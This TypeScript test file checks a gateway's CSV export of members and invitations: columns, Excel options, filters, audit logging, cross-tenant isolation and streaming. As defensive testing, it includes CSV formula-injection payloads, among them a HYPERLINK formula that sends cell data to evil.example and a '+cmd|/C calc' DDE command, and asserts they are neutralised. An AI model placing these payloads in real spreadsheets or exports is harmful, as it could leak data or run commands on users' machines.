import { parse } from 'csv-parse/sync'
import supertest from 'supertest'
import { describe, expect, it } from 'vitest'
import { EXPORT_PAGE_ROWS } from '../../src/exports/exports.js'
import { restoreNeutralised } from '../../src/lib/csv.js'
import { createApp } from '../../src/tokens/apps.js'
import { tenantWithKey } from '../support/admin-api.js'
import { useGateway } from '../support/harness.js'
import { inviteMembers } from '../support/invite.js'
import { addPeople } from '../support/members.js'
import { declareCatalogue } from '../support/catalogues.js'

// Issue 12: CSV export of members and invitations, streamed, with the import's columns, safe
// against formula injection (OWASP CSV injection, ASVS 5.0 1.2.10) and readable by Excel.
const gw = useGateway()

const web = (name: string, product?: string) => ({
  name,
  type: 'web' as const,
  redirectUris: ['https://app.example.com/cb'],
  ...(product && { product }),
})

/** The body as bytes (supertest would decode text/csv as text and drop a BOM). */
const bytes = (req: supertest.Test) =>
  req.buffer(true).parse((res, done) => {
    const chunks: Buffer[] = []
    res.on('data', (c: Buffer) => chunks.push(c))
    res.on('end', () => done(null, Buffer.concat(chunks)))
  })

const read = (body: Buffer, options: { delimiter?: string } = {}) =>
  parse(body, { bom: true, relax_column_count: false, ...options }) as string[][]

const PERSON_HEADER = [
  'email',
  'firstName',
  'lastName',
  'phone',
  'jobTitle',
  'externalId',
  'locale',
  'role',
  'organization',
  'kind',
]

async function storeWithApps() {
  const t = await tenantWithKey(gw)
  await createApp(gw.db, t.tenant.id, web('Shop', 'shop'))
  const training = await createApp(gw.db, t.tenant.id, web('Training'))
  await createApp(gw.db, t.tenant.id, { name: 'Sync robot', type: 'machine' })
  return { ...t, trainingClientId: training.clientId }
}

describe('members export', () => {
  it('writes the contract columns, the apps of the tenant and neutralised formulas', async () => {
    const { tenant, api, trainingClientId } = await storeWithApps()
    const formulas = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '+cmd|/C calc!A0',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1',
    ]
    await addPeople(gw.db, tenant, [
      {
        email: 'ada@example.com',
        firstName: 'Ada, Countess',
        lastName: 'Love "the" lace',
        phone: '+32 470 11 22 33',
        groups: ['A', 'B', 'C', 'D', 'E'],
        organization: 'Analytical\nEngines',
      },
      { email: 'guest@example.com', kind: 'guest', role: 'viewer', groups: [], products: ['shop'] },
      { email: 'both@example.com', kind: 'guest', products: ['shop', trainingClientId] },
      ...formulas.map((f, i) => ({ email: `f${i}@example.com`, firstName: f, lastName: f })),
    ])
    const res = await bytes(api('get', '/members/export')).expect(200)
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(res.headers['content-disposition']).toMatch(
      new RegExp(`^attachment; filename="members-${tenant.slug}-\\d{4}-\\d\\d-\\d\\d\\.csv"$`),
    )
    expect(res.headers['cache-control']).toBe('no-store')
    const body = res.body as Buffer
    expect(body.subarray(0, 3).toString('hex')).not.toBe('efbbbf')
    const [header, ...rows] = read(body)
    // Five groups at most: user-group 1..5; the machine app signs nobody in and has no column.
    expect(header).toEqual([
      ...PERSON_HEADER,
      ...[1, 2, 3, 4, 5].map((n) => `user-group ${n}`),
      'Shop',
      'Training',
    ])
    const byEmail = new Map(
      rows.map((r) => [r[0], Object.fromEntries(header!.map((h, i) => [h, r[i]]))]),
    )
    expect(byEmail.get('ada@example.com')).toMatchObject({
      firstName: 'Ada, Countess',
      lastName: 'Love "the" lace',
      organization: 'Analytical\nEngines',
      // A phone number starting with + is neutralised too: it is what a formula starts with.
      phone: "'+32 470 11 22 33",
      kind: 'member',
      role: 'user',
      'user-group 1': 'A',
      'user-group 5': 'E',
      Shop: 'false',
      Training: 'false',
    })
    expect(byEmail.get('guest@example.com')).toMatchObject({
      kind: 'guest',
      role: 'viewer',
      'user-group 1': '',
      Shop: 'true',
      Training: 'false',
    })
    expect(byEmail.get('both@example.com')).toMatchObject({ Shop: 'true', Training: 'true' })
    formulas.forEach((f, i) => {
      const row = byEmail.get(`f${i}@example.com`)!
      // No cell a spreadsheet would evaluate: each starts with the apostrophe.
      expect(row.firstName).toBe(`'${f}`)
      expect(row.lastName).toBe(`'${f}`)
      expect(restoreNeutralised(row.firstName!)).toBe(f)
    })
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    expect(rows).toHaveLength(3 + formulas.length)
  })

  it("gives Excel a BOM and ';' when asked, and at least three group columns", async () => {
    const { tenant, api } = await tenantWithKey(gw)
    await addPeople(gw.db, tenant, [
      { email: 'zoe@example.com', firstName: 'Zoë', lastName: 'Dupont; fils', groups: ['Paris'] },
    ])
    const res = await bytes(
      api('get', '/members/export').query({ separator: 'semicolon', bom: 'true' }),
    ).expect(200)
    const body = res.body as Buffer
    expect(body.subarray(0, 3).toString('hex')).toBe('efbbbf')
    expect(body.toString('utf8')).toContain('zoe@example.com;Zoë;"Dupont; fils";')
    const [header, row] = read(body, { delimiter: ';' })
    expect(header).toEqual([...PERSON_HEADER, 'user-group 1', 'user-group 2', 'user-group 3'])
    expect(row).toEqual([
      'zoe@example.com',
      'Zoë',
      'Dupont; fils',
      '',
      '',
      '',
      '',
      'user',
      '',
      'member',
      'Paris',
      '',
      '',
    ])
  })

  it('applies the list filters, and refuses a bad option with a JSON 400', async () => {
    const { tenant, api } = await tenantWithKey(gw)
    await addPeople(gw.db, tenant, [
      { email: 'g1@example.com', kind: 'guest', groups: ['Sales'] },
      { email: 'm1@example.com', groups: ['Sales'] },
      { email: 'm2@example.com', status: 'disabled' },
    ])
    const emails = async (query: Record<string, string>) =>
      read((await bytes(api('get', '/members/export').query(query)).expect(200)).body as Buffer)
        .slice(1)
        .map((r) => r[0])
        .sort()
    expect(await emails({ kind: 'guest' })).toEqual(['g1@example.com'])
    expect(await emails({ group: 'Sales' })).toEqual(['g1@example.com', 'm1@example.com'])
    expect(await emails({ status: 'disabled' })).toEqual(['m2@example.com'])
    const bad = await api('get', '/members/export').query({ separator: 'tab' }).expect(400)
    expect(bad.body).toMatchObject({
      error: 'invalid_request',
      details: { fields: { separator: expect.any(Array) } },
    })
    await api('get', '/members/export').query({ password: 'x' }).expect(400)
  })

  it('is recorded in the audit log', async () => {
    const { tenant, api } = await tenantWithKey(gw)
    await bytes(api('get', '/members/export').query({ kind: 'guest' })).expect(200)
    const event = await gw.db
      .selectFrom('audit_events')
      .selectAll()
      .where('tenant_id', '=', tenant.id)
      .where('action', '=', 'members.exported')
      .executeTakeFirstOrThrow()
    expect(event.details).toMatchObject({ filters: { kind: 'guest' } })
  })

  // OWASP ASVS 5.0 8.4.1: another tenant's admin cannot read this tenant's people.
  it("answers 404 to another tenant's admin and 401 without a key", async () => {
    const a = await tenantWithKey(gw)
    const b = await tenantWithKey(gw)
    await addPeople(gw.db, a.tenant, [{ email: 'secret@example.com' }])
    for (const path of ['members', 'invitations']) {
      const res = await b.api('get', '/members').expect(200) // b's key works on b
      expect(res.body.items).toEqual([])
      const foreign = await bytes(
        gwGet(`/admin/api/v1/tenants/${a.tenant.slug}/${path}/export`).set(
          'Authorization',
          `Bearer ${b.key}`,
        ),
      ).expect(404)
      expect(foreign.body.toString()).not.toContain('secret@example.com')
      await gwGet(`/admin/api/v1/tenants/${a.tenant.slug}/${path}/export`).expect(401)
    }
  })

  it(
    `streams 5,000 members in pages of ${EXPORT_PAGE_ROWS}, every row once`,
    async () => {
      const { tenant, api } = await tenantWithKey(gw)
      const directoryId = tenant.databaseDirectoryId!
      // One statement per 1,000: the same created_at for all of them, so the keyset's tie-breaker
      // (the id) is what pages through them.
      for (let start = 0; start < 5000; start += 1000) {
        const users = await gw.db
          .insertInto('users')
          .values(
            Array.from({ length: 1000 }, (_, i) => {
              const email = `p${String(start + i).padStart(4, '0')}@example.com`
              return {
                directory_id: directoryId,
                email,
                email_key: email,
                first_name: `=cmd${start + i}`,
              }
            }),
          )
          .returning('id')
          .execute()
        await gw.db
          .insertInto('memberships')
          .values(
            users.map((u) => ({ tenant_id: tenant.id, directory_id: directoryId, user_id: u.id })),
          )
          .execute()
      }
      const res = await bytes(api('get', '/members/export')).expect(200)
      // Written as it is read: no length known up front.
      expect(res.headers['transfer-encoding']).toBe('chunked')
      expect(res.headers['content-length']).toBeUndefined()
      const [header, ...rows] = read(res.body as Buffer)
      expect(header).toHaveLength(PERSON_HEADER.length + 3)
      expect(rows).toHaveLength(5000)
      const emails = new Set(rows.map((r) => r[0]))
      expect(emails.size).toBe(5000)
      for (let i = 0; i < 5000; i++)
        expect(emails.has(`p${String(i).padStart(4, '0')}@example.com`)).toBe(true)
      expect(rows.every((r) => r[1]!.startsWith("'=cmd"))).toBe(true)
    },
    // 10,000 inserts through the search triggers take a while on a busy machine (not the export).
    240_000,
  )
})

const gwGet = (path: string) => supertest(gw.app).get(path)

describe('invitations export', () => {
  it('writes the person, the status, invitedAt and expiresAt of each invitation', async () => {
    const { tenant, api } = await storeWithApps()
    const ctx = { secretKey: gw.config.secretKey }
    await declareCatalogue(gw.db, tenant.id, { groups: ['Sales', 'Paris'] })
    const results = await inviteMembers(
      gw.db,
      tenant,
      {
        invitees: [
          { email: 'new@example.com', firstName: '@admin', lastName: 'Smith, Jr.' },
          { email: 'gone@example.com' },
        ],
        groups: ['Sales', 'Paris'],
      },
      ctx,
    )
    const gone = results.find((r) => r.email === 'gone@example.com')!
    await api('delete', `/invitations/${(gone as { invitationId: string }).invitationId}`).expect(
      200,
    )

    const res = await bytes(api('get', '/invitations/export')).expect(200)
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(res.headers['content-disposition']).toContain(`filename="invitations-${tenant.slug}-`)
    const [header, ...rows] = read(res.body as Buffer)
    expect(header).toEqual([
      ...PERSON_HEADER,
      'user-group 1',
      'user-group 2',
      'user-group 3',
      'Shop',
      'Training',
      'status',
      'invitedAt',
      'expiresAt',
    ])
    const rowOf = (email: string) => {
      const row = rows.find((r) => r[0] === email)!
      return Object.fromEntries(header!.map((h, i) => [h, row[i]]))
    }
    const fresh = rowOf('new@example.com')
    expect(fresh).toMatchObject({
      firstName: "'@admin",
      lastName: 'Smith, Jr.',
      locale: 'en',
      'user-group 1': 'Everybody',
      'user-group 2': 'Sales',
      'user-group 3': 'Paris',
      status: 'pending',
      Shop: 'false',
    })
    expect(new Date(fresh.expiresAt!).getTime()).toBeGreaterThan(
      new Date(fresh.invitedAt!).getTime(),
    )
    expect(rowOf('gone@example.com').status).toBe('revoked')

    const pendingOnly = read(
      (await bytes(api('get', '/invitations/export').query({ status: 'pending' })).expect(200))
        .body as Buffer,
    )
    expect(pendingOnly.slice(1).map((r) => r[0])).toEqual(['new@example.com'])
  })
})
